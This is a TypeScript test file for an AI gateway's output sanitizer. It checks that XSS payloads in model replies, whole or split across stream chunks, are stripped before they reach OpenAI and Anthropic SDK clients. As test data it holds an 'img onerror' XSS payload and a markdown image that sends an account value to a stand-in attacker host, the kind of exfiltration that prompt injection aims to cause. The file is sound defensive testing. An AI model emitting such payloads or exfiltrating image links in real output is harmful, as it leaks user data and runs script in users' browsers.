/**
 * Threat: model output carrying script into the client's page (stored/reflected XSS through an
 * LLM) and data exfiltration through markdown image URLs. XSS payloads returned by the fake
 * provider, whole or split across stream deltas (one character per delta included), reach the
 * official SDK clients only in sanitized form, on both wire formats, streamed or not.
 */
import { Parser } from 'htmlparser2';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { startTestGateway, type TestGateway } from '../helpers/gateway.js';
import { clientText, type Wire } from '../helpers/sdk-output.js';
import { XSS_PAYLOADS, randomSplits } from '../unit/output/xss-corpus.js';

const ALLOWED = new Set(['p', 'strong', 'em', 'ul', 'li', 'code']);

let gw: TestGateway;

beforeAll(async () => {
  gw = await startTestGateway({ app: { output: { links: { allowedDomains: ['docs.example.com'] } } } });
});
afterAll(() => gw.close());
beforeEach(() => gw.fake.reset());

/** Every element a browser would build from the text, with its attributes. */
const elements = (html: string): Array<{ name: string; attributes: string[] }> => {
  const found: Array<{ name: string; attributes: string[] }> = [];
  const parser = new Parser({
    onopentag: (name, attribs) => found.push({ name, attributes: Object.keys(attribs) }),
  });
  parser.write(html);
  parser.end();
  return found;
};

const expectSafe = (text: string): void => {
  for (const element of elements(text)) {
    expect(ALLOWED.has(element.name), `<${element.name}> reached the client`).toBe(true);
    expect(element.attributes).toEqual([]);
  }
};

const SPLITS: ReadonlyArray<[string, (text: string) => string[]]> = [
  ['whole', (text) => [text]],
  ['one character per delta', (text) => [...text]],
  ['random deltas', (text) => randomSplits(text, text.length, 4)],
];

describe.each(['openai', 'anthropic'] as const)('output sanitization through the %s SDK', (wire: Wire) => {
  it.each(SPLITS)('no XSS payload reaches the client unsanitized (%s)', async (_name, split) => {
    for (const payload of XSS_PAYLOADS) {
      const text = `<p>Answer:</p> ${payload} <strong>done</strong>`;
      const results: string[] = [];
      for (const stream of [false, true]) {
        gw.fake.enqueue({ kind: 'reply', text, deltas: split(text) });
        const result = await clientText(gw, wire, 'show me html', stream);
        expect(result.error).toBeUndefined();
        expectSafe(result.text);
        expect(result.text.startsWith('<p>Answer:</p> ')).toBe(true);
        results.push(result.text);
      }
      // However the stream is cut, the client gets what the non-streamed response would give.
      expect(results[1], payload).toBe(results[0]);
    }
  });

  it('removes a markdown image that exfiltrates data, keeps allowlisted links', async () => {
    const text =
      'Done. ![status](https://attacker.example/p.png?d=ACCOUNT-4411) See [docs](https://docs.example.com/x).';
    for (const stream of [false, true]) {
      gw.fake.enqueue({ kind: 'reply', text, deltas: randomSplits(text, 3, 3) });
      const result = await clientText(gw, wire, 'summarize', stream);
      expect(result.text).toBe('Done. status See [docs](https://docs.example.com/x).');
    }
    const events = await gw.auditEvents();
    expect(events.at(-1)?.triggers).toContain('output.link_removed');
    expect(JSON.stringify(events)).not.toContain('attacker.example');
  });

  it('leaves ordinary text byte for byte', async () => {
    const text = 'Use a < b && c > d; costs $5 & up. [note] 100% done!';
    for (const stream of [false, true]) {
      gw.fake.enqueue({ kind: 'reply', text, deltas: randomSplits(text, 9, 3) });
      expect((await clientText(gw, wire, 'x', stream)).text).toBe(
        text.includes('<') ? await sanitizedOnce(text) : text,
      );
    }
  });
});

/** The same text through a one-off non-streamed request: streaming must not change the result. */
async function sanitizedOnce(text: string): Promise<string> {
  gw.fake.enqueue({ kind: 'reply', text });
  return (await clientText(gw, 'openai', 'x', false)).text;
}

describe('html.mode markdown (clients that render markdown)', () => {
  let md: TestGateway;
  beforeAll(async () => {
    md = await startTestGateway({ app: { output: { html: { mode: 'markdown' } } } });
  });
  afterAll(() => md.close());

  it.each(['openai', 'anthropic'] as const)(
    'keeps code intact and still sanitizes prose (%s)',
    async (wire) => {
      const text =
        'Compare with `a < b`:\n```js\nif (a < b && c > d) run();\n```\nThen <img src=x onerror=alert(1)> <em>ok</em>\n```html\n<img src=x onerror=alert(1)>\n```\n';
      for (const stream of [false, true]) {
        md.fake.enqueue({ kind: 'reply', text, deltas: randomSplits(text, 11, 3) });
        const { text: received } = await clientText(md, wire, 'x', stream);
        // Code without anything tag-like passes untouched; code holding a tag is sanitized like prose,
        // because a renderer may still read it as HTML (an HTML block, CR line endings, list items).
        expect(received).toBe(
          'Compare with `a < b`:\n```js\nif (a < b && c > d) run();\n```\nThen  <em>ok</em>\n```html\n\n```\n',
        );
      }
    },
  );
});
